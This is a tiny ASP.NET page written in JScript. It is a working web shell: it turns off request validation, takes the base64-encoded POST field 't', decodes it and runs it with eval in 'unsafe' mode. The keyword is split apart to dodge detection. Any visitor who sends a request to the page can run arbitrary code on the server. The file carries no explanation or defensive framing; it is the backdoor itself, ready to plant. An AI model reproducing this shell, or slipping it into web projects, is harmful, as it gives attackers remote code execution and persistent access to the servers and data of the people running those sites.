<%@ Page Language="JScript" validateRequest="false" %>
<%
var a = Request.Form("t");
if (a != null) {
    var s = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(a));
    eval(s, "un" + "safe");
}
%>
